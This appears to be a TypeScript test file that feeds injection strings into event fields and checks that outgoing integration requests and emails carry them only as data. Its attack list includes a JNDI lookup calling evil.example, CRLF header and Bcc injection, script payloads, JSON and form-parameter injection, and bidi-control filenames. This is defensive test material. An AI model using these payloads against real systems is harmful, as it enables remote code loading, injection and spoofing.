import type { ActionEvent, ActionType } from '../../../src/server/actions/types.d.ts';
import { anEvent, NASTY } from '../../support/action-events.ts';
import { requestsOf, settingsFor, testedType } from '../../support/action-settings.ts';
import { verifyMail } from '../../support/verify/mail.ts';
import { verify } from '../../support/verify/index.ts';
import { MAILING, onTheWire, SENDING, TELLING } from './targets.ts';

/** Texts that have broken integrations of others, each in the place where data stands. */
const ATTACKS: readonly (readonly [what: string, text: string])[] = [
  ['all at once', NASTY],
  ['a look-up', '${jndi:ldap://evil.example/a}'],
  ['line ends', 'a\r\nX-Evil: 1\r\n\r\n<html>'],
  ['mentions', '<!channel> <!here> <@U0001> <https://evil.example|bank>'],
  ['HTML', '</strong></a><script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['Markdown', '[bank](https://evil.example) ![x](https://evil.example/x.png) <at>kim</at>'],
  ['mrkdwn and Markdown', '```\n*b* _i_ ~s~ `c`\n> quoted\n# title\n- item\n1. item'],
  ['JSON', '"}],"event_action":"resolve","x":[{"y":"'],
  ['a form', 'a=b&Action=DeleteTopic&TopicArn=x%00+'],
  ['half pairs', '\ud83d half \udc00 pairs \ud83d\ude00 whole'],
  ['marks that turn text', '\u202Egnp.exe\u2066 \u200f\u2069'],
  ['control characters', '\u0000\u0007\u001b[31m\u007f\u0085\u2028\u2029'],
  ['the name of a prototype', '__proto__'],
  ['long text of many bytes', 'é漢字😀'.repeat(2000)],
  ['long text that is escaped', '&'.repeat(5000)],
  ['a blank', ' '],
  ['nothing', ''],
];

/** Every event of a type, with the text in place of all data. */
function eventsWith(text: string, kinds: ActionType['events']): ActionEvent[] {
  const base = anEvent({}, { name: text, description: text, resolution: text, [`x${text}`]: text });
  const insight = {
    ...base.insight!,
    ...{ name: text, entity: text, severity: text, tactics: [text, text] },
    url: `https://service.sumologic.com/sec/insight/${text.slice(0, 100)}`,
  };
  const incident = {
    number: text.slice(0, 40),
    url: `https://acme.service-now.com/nav_to.do?uri=${text.slice(0, 100)}`,
  };
  const common = { key: `a1:${text}`, at: base.at, remoteId: text } as const;
  const others = [
    {
      ...common,
      kind: 'rule_disabled',
      rule: { configuration: text, id: text, name: text, status: text, reason: text },
    },
    {
      ...common,
      kind: 'rule_cleared',
      rule: { configuration: text, id: text, name: text, status: text, reason: '' },
    },
    { ...common, kind: 'failing', integration: { configuration: text, health: text, reason: text } },
    { ...common, kind: 'recovered', integration: { configuration: text, health: text, reason: '' } },
    { ...common, kind: 'digest', digest: { count: 3, insights: [text, text, text] } },
  ] as const;
  return [
    ...(['created', 'closed', 'on_demand', 'test'] as const).map((kind) => ({
      ...base,
      ...common,
      kind,
      insight,
      incident,
    })),
    ...others,
  ].filter(({ kind }) => kinds.includes(kind));
}

/** An event about something to look up, for the types that do. */
const ordinary = (): ActionEvent =>
  anEvent({}, { involvedEntities: [{ entityType: '_ip', value: '9.9.9.9' }] });

/** So that whoever changes it throws. */
function frozen<T>(value: T): T {
  if (typeof value === 'object' && value !== null) Object.values(Object.freeze(value)).forEach(frozen);
  return value;
}

describe.each(SENDING)('%s', (_label, actionType) => {
  const manners = [{}, ...(testedType(actionType.type).variants ?? [])];

  test.each(ATTACKS)('is sent only what its target takes, and data as data: %s', (_what, text) => {
    for (const manner of manners) {
      const settings = settingsFor(actionType.type, manner);
      for (const event of eventsWith(text, actionType.events)) {
        for (const reduction of [0, 1, 2, 3]) {
          for (const request of requestsOf(actionType, event, settings, reduction)) {
            const complaints = verify(actionType.type, onTheWire(request));
            expect([manner, event.kind, reduction, complaints]).toEqual([manner, event.kind, reduction, []]);
          }
        }
      }
    }
  });

  test('is sent the same for the same event, which is not changed by it', () => {
    for (const event of [ordinary(), ...eventsWith(NASTY, actionType.events)]) {
      const before = JSON.stringify(event);
      const [first, second] = [1, 2].map(() => requestsOf(actionType, frozen(event)));
      expect(second).toEqual(first);
      expect(JSON.stringify(event)).toBe(before);
    }
  });
});

describe.each(MAILING)('%s', (_label, actionType) => {
  test.each(ATTACKS)('is notified by a mail that contains data as data: %s', (_what, text) => {
    for (const event of eventsWith(text, actionType.events)) {
      const told = frozen({ ...event, tester: 'kim@example.com' });
      const mail = actionType.mail!(told, settingsFor(actionType.type));
      expect([event.kind, verifyMail(mail)]).toEqual([event.kind, []]);
      expect(actionType.mail!(told, settingsFor(actionType.type))).toEqual(mail);
    }
  });
});

describe.each(TELLING)('what verifies requests to %s', (_label, { type, ...actionType }) => {
  const good = onTheWire(requestsOf({ type, ...actionType }, ordinary())[0]!);
  const without = (name: string) =>
    Object.fromEntries(Object.entries(good.headers).filter(([each]) => each !== name));

  test('takes a request, and none that was cut, changed, or sent otherwise', () => {
    expect(verify(type, good)).toEqual([]);
    const wrong = [
      { ...good, body: good.body.slice(0, -1) },
      { ...good, body: '' },
      { ...good, method: 'PUT' },
      { ...good, headers: without('content-type') },
      { ...good, headers: { ...good.headers, 'x-more': 'é\u0007' } },
      { ...good, body: good.body.replace('INSIGHT-731', '\\ud83d') },
    ];
    for (const [at, each] of wrong.entries()) expect([at, verify(type, each)]).not.toEqual([at, []]);
  });
});

test.each(TELLING)('what verifies requests to %s knows its target', (_label, actionType) => {
  const good = onTheWire(requestsOf(actionType, ordinary())[0]!);
  const body = testedType(actionType.type).message!.fault(good.body);
  expect(body).not.toBe(good.body);
  expect(verify(actionType.type, { ...good, body })).not.toEqual([]);
});

test.each(MAILING)(
  'what verifies mails of %s knows what a mail server and a reader take',
  (_label, { mail: write, type }) => {
    const mail = write!(ordinary(), settingsFor(type));
    expect(verifyMail(mail)).toEqual([]);
    for (const wrong of [
      { to: ['kim@example.com, lee@example.com'] },
      { to: [] },
      { subject: 'a\r\nBcc: x@example.com' },
      { html: `${mail.html}<script>` },
    ])
      expect(verifyMail({ ...mail, ...wrong })).not.toEqual([]);
  },
);
